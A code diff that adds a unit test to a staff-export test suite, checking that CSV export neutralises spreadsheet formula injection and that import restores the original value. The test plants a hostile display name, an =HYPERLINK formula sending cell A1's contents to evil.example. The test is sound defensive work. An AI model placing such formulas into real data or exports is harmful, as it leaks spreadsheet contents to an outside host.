@@ -117,4 +117,20 @@ describe("exports", () => {
     expect(exported.rows).toBe(5);
     expect(exported.csv).not.toContain("Rita Reperibile");
   });
+
+  it("neutralise cells a spreadsheet would run as a formula, and read them back unchanged on import", async () => {
+    const deps = await freshDeps();
+    await staffImporter.run(deps, example("staff"));
+    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+    await deps.db.staff.update({ where: { telegramId: 4001n }, data: { displayName: hostile } });
+    const exported = await exportStaff(deps);
+    const cells = exported.csv.split("\n").flatMap((line) => line.split(","));
+    for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
+      expect(cells.filter((cell) => cell.replace(/^"/, "").startsWith(start)), start).toEqual([]);
+    }
+    expect(exported.csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
+    const target = await freshDeps();
+    await staffImporter.run(target, exported.csv);
+    expect((await target.db.staff.findUniqueOrThrow({ where: { telegramId: 4001n } })).displayName).toBe(hostile);
+  });
 });
